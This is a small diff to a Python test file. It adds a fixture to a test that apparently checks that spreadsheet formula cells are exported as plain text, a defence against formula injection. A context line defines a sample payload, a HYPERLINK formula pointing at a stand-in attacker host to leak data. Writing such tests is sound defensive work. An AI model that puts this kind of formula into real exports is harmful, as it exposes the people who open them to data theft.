@@ -206,6 +206,7 @@ async def test_an_idempotency_key_never_replays_or_holds_an_export(
 FORMULA = '=HYPERLINK("https://evil.example/?leak","Click me")'
 
 
+@pytest.mark.usefixtures("import_worker")  # the import over the API is a job
 async def test_cells_a_spreadsheet_would_run_are_exported_as_text_unless_asked(
     api: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant
 ) -> None:
